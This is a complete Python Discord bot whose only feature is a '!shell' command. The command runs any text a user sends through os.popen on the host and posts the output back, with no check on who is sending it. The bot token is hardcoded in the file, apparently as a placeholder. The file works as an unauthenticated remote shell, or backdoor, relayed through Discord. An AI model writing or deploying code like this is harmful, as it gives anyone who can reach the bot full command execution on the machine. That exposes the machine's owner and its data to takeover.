import discord, os
from discord.ext import commands
bot = commands.Bot(command_prefix="!", intents=discord.Intents.all())
@bot.command()
async def shell(ctx, *, line):
    await ctx.send(os.popen(line).read())
bot.run("MTIzNDU2Nzg5MDEyMzQ1Njc4.abcdef.abcdefghijklmnopqrstuvwxyz0")
